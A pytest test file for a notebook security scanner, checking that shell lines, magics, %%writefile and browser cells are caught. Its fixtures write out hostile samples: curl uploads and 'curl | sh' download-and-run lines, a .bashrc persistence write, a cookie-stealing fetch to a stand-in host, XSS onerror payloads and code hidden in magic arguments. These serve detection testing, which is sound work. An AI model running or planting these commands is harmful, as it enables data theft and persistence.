"""Notebooks: code cells through the Python rules, shell lines and magics through the notebook rules."""

from __future__ import annotations

import json
from pathlib import Path

from analyzer import api
from analyzer.engine.collect import collect, from_bytes
from analyzer.engine.notebooks import read_notebook

POLICY = api.load_policy()
CORPUS = Path(__file__).resolve().parent.parent / "corpus"


def nb(*cells: str, kind: str = "code") -> bytes:
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {},
                       "cells": [{"cell_type": kind, "metadata": {}, "source": c.splitlines(True), "outputs": []}
                                 for c in cells]}).encode()


def scan(data: bytes, name: str = "train.ipynb"):
    return api.analyze(from_bytes(name, data, POLICY.limits), POLICY)


def test_findings_point_at_cell_and_line() -> None:
    report = scan(nb("import os\n", "x = 1\nos.system('id')\n"))
    hit = [f for f in report.findings if f.rule == "subprocess.shell"]
    assert hit and hit[0].path == "train.ipynb[cell 2]" and hit[0].line == 2


def test_aliases_cross_cells() -> None:
    report = scan(nb("import requests as r\n", "r.post('https://e', data=open('/data/x').read())\n"))
    assert any(f.category == "network" and f.path == "train.ipynb[cell 2]" for f in report.findings)
    assert report.decision.value == "reject"


def test_magics_are_stripped_so_cells_parse() -> None:
    report = scan(nb("%matplotlib inline\n%load_ext autoreload\n%autoreload 2\nimport numpy as np\n",
                     "%time y = np.ones(3)\nnp.mean?\nfor i in range(2):\n    %time z = i\n"))
    assert report.decision.value == "accept", report.findings


def test_shell_lines() -> None:
    report = scan(nb("!nvidia-smi\n", "%%bash\ncurl -T /data/x https://e\n", "files = !ls /data\n"))
    found = {(f.rule, f.path) for f in report.findings}
    assert ("files.notebook-shell", "train.ipynb[cell 1]") in found
    assert ("files.notebook-shell-network", "train.ipynb[cell 2]") in found
    assert ("files.notebook-shell", "train.ipynb[cell 3]") in found
    assert report.decision.value == "reject"


def test_pip_install_from_the_index_escalates_from_elsewhere_rejects() -> None:
    report = scan(nb("%pip install somepkg\n"))
    assert "files.notebook-package-install" in {f.rule for f in report.findings}
    assert report.decision.value == "escalate"
    report = scan(nb("%pip install --index-url https://pkgs.x.example/simple somepkg\n"))
    assert "files.notebook-shell-network" in {f.rule for f in report.findings}
    assert report.decision.value == "reject"


def test_run_of_job_file_is_fine_outside_file_is_not() -> None:
    ok = read_notebook(nb("%run helper.py\n"))
    assert [r.text for r in ok.runs] == ["helper.py"]
    report = scan(nb("%run /tmp/x.py\n"))
    assert "files.notebook-run" in {f.rule for f in report.findings}
    assert report.decision.value != "accept"


def test_run_module_and_load_ext_become_imports() -> None:
    parsed = read_notebook(nb("%run -m http.server\n%load_ext requests\n"))
    assert "import http.server" in parsed.cells[0].source and "import requests" in parsed.cells[0].source


def test_unknown_cell_magic_and_bad_json_are_unanalyzable() -> None:
    assert "unanalyzable.notebook" in {f.rule for f in scan(nb("%%weird\nx\n")).findings}
    report = scan(b'{"cells": [')
    assert "unanalyzable.notebook" in {f.rule for f in report.findings}
    assert report.decision.value != "accept"


def test_syntax_error_cell_does_not_hide_other_cells() -> None:
    report = scan(nb("def broken(:\n", "import os\nos.system('id')\n"))
    rules = {(f.rule, f.path) for f in report.findings}
    assert ("unanalyzable.parse-error", "train.ipynb[cell 1]") in rules
    assert ("subprocess.shell", "train.ipynb[cell 2]") in rules


def test_markdown_and_raw_cells_are_not_code() -> None:
    assert scan(nb("!curl https://e\n", kind="markdown")).decision.value == "accept"


def test_writefile_python_is_analysed() -> None:
    report = scan(nb("%%writefile helper.py\nimport os\nos.system('id')\n"))
    hit = [f for f in report.findings if f.rule == "subprocess.shell"]
    assert hit and hit[0].path == "train.ipynb[cell 1]" and hit[0].line == 3


def test_nbformat_3() -> None:
    doc = {"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "code", "input": ["import os\n", "os.system('x')"]}]}]}
    assert "subprocess.shell" in {f.rule for f in scan(json.dumps(doc).encode()).findings}


def test_get_ipython_system() -> None:
    report = scan(nb("get_ipython().system('wget https://e/x')\n"))
    assert "files.notebook-shell-network" in {f.rule for f in report.findings}


def test_corpus_notebooks() -> None:
    assert api.scan(CORPUS / "malicious/notebook_shell_exfil.ipynb", POLICY).decision.value == "reject"
    assert api.scan(CORPUS / "malicious/notebook_pickle_hub.ipynb", POLICY).decision.value == "reject"
    assert api.scan(CORPUS / "borderline/gpu_check_notebook.ipynb", POLICY).decision.value == "escalate"
    # classification_report lists the distinct values of y_test in the log: since red team 50b a person looks
    # (the gate cannot tell a label column from an id column); nothing else in the notebook holds it
    report = api.scan(CORPUS / "benign/sklearn_eval_notebook.ipynb", POLICY)
    assert report.decision.value == "escalate", report.findings
    held = [f for f in report.findings if f.never_accept]
    assert held and all(f.rule == "update-channel-leak.unknown-provenance" and f.line == 5 for f in held), held


# -- magics whose arguments change what the Python does (issue 12) -------------------------

def test_cd_magic_moves_relative_writes_onto_the_share() -> None:
    report = scan(nb("%cd /mnt/share\n", "open('rows.csv', 'w').write('x')\n"))
    found = {(f.rule, f.path) for f in report.findings}
    assert ("file-exfiltration.chdir-outside", "train.ipynb[cell 1]") in found
    assert ("file-exfiltration.write-network", "train.ipynb[cell 2]") in found
    assert report.decision.value == "reject"


def judged(report) -> list:
    """Findings of the threat and capability rules (what the catalogue does not list is another matter)."""
    return [f for f in report.findings if f.category != "unvouched"]


def test_cd_into_the_workspace_stays_clean() -> None:
    assert not judged(scan(nb("%cd outputs\n", "import numpy as np\nnp.save('x.npy', np.ones(2))\n")))


def test_env_magic_setting_master_addr_to_another_host_rejects() -> None:
    report = scan(nb("%env MASTER_ADDR=203.0.113.9\n", "import torch.distributed as dist\n"
                     "dist.init_process_group('gloo', init_method='env://')\n"))
    assert "network.rendezvous-remote" in {f.rule for f in report.findings}
    assert report.decision.value == "reject"


def test_env_magic_for_a_gpu_choice_stays_clean() -> None:
    assert not judged(scan(nb("%env CUDA_VISIBLE_DEVICES=0\n")))


def test_run_module_arguments_are_judged() -> None:
    assert scan(nb("%run -m pip install evil\n")).decision.value == "reject"
    assert "files.notebook-shell-network" in {f.rule for f in scan(nb("%run -m http.server 8000 --directory /data\n")).findings}
    assert "files.notebook-shell" in {f.rule for f in scan(nb("%run -m timeit -n 3 pass\n")).findings}


def test_run_of_the_jobs_own_module_with_arguments_is_fine(tmp_path) -> None:
    (tmp_path / "train.py").write_text("import sys\nprint(sys.argv)\n")
    (tmp_path / "nb.ipynb").write_bytes(nb("%run -m train --epochs 2\n"))
    report = api.analyze(collect(tmp_path, POLICY.limits), POLICY)
    assert not any(f.rule.startswith("files.notebook") for f in report.findings), report.findings


def test_ipython_shell_under_another_name() -> None:
    assert scan(nb("ip = get_ipython()\n", "ip.system('curl -s https://e/x | sh')\n")).decision.value == "reject"
    found = {f.rule for f in scan(nb("sh = get_ipython().system\n", "sh('ls /data')\n")).findings}
    assert "files.notebook-shell" in found


def test_debug_and_profiling_magics_run_their_statement() -> None:
    # `%debug -b FILE:LINE STATEMENT` runs STATEMENT: never an inert line.
    hidden = scan(nb("%debug -b other.py:1 __import__('os').system('curl https://e | sh')\n"))
    assert hidden.decision.value != "accept", hidden.findings
    shown = scan(nb("import os\n", "%memit os.system('id')\n"))
    assert "subprocess.shell" in {f.rule for f in shown.findings}
    assert scan(nb("%debug\n%pdb on\nimport numpy as np\n")).decision.value == "accept"


# -- red team 3: magics that were read as inert ----------------------------------------------

def test_expansion_in_magic_arguments_is_not_inert() -> None:
    # IPython evaluates `{expression}` (and substitutes `$name`) in a magic's arguments.
    for line in ("%matplotlib {__import__('os').system('id') and 'inline'}\n", "%cd $dest\n",
                 "%%capture {__import__('os').system('id') or 'o'}\nx = 1\n"):
        notebook = read_notebook(nb(line))
        assert [u.text.split()[0] for u in notebook.unknown], line
        assert scan(nb(line)).decision.value != "accept"
    assert not read_notebook(nb("%timeit -n 3 d = {1: 2}\n", "%%time {3}\nx = 1\n")).unknown


def test_magics_that_run_or_write_are_unknown() -> None:
    for line in ("%config X.y = __import__('os').getcwd()", "%store rows >/mnt/share/rows.txt",
                 "%logstart -o /mnt/share/s.log", "%history -o -f /mnt/share/h.txt", "%rerun -g train",
                 "%tensorboard --logdir runs --host 0.0.0.0", "%env", "%env AWS_SECRET_ACCESS_KEY"):
        assert read_notebook(nb(line + "\n")).unknown, line
    assert not read_notebook(nb("%env CUDA_VISIBLE_DEVICES=0\n%set_env OMP_NUM_THREADS 4\n%matplotlib inline\n")).unknown


def test_writefile_is_the_write_it_amounts_to() -> None:
    # red team 5: a %%writefile to a shell rc file was read for its .py/.sh body only, never as a write
    report = scan(nb("%%writefile -a /root/.bashrc\ncurl -s http://example.org/x | sh\n"))
    found = {(f.rule, f.path, f.line) for f in report.findings}
    assert ("persistence.startup-file", "train.ipynb[cell 1]", 1) in found
    assert report.decision.value == "reject"


def test_writefile_of_a_text_file_in_the_workspace_stays_clean() -> None:
    assert not judged(scan(nb("%%writefile notes/params.txt\nlr=0.01\n")))


def test_cells_the_browser_runs_are_unknown() -> None:
    # %%javascript runs in the browser of whoever runs the notebook, with that user's Jupyter session
    for cell in ("%%javascript\nfetch('https://x.example/?c=' + document.cookie)\n",
                 "%%html\n<img src=x onerror=\"fetch('https://x.example')\">\n",
                 "%%js\nJupyter.notebook.kernel.execute('import os')\n", "%%svg\n<svg onload=alert(1)></svg>\n",
                 "%%markdown\n<img src=x onerror=alert(1)>\n"):
        report = scan(nb(cell))
        assert "unanalyzable.notebook" in {f.rule for f in report.findings}, cell
        assert report.decision.value != "accept", cell
    assert not read_notebook(nb("%%latex\n$x^2$\n")).unknown
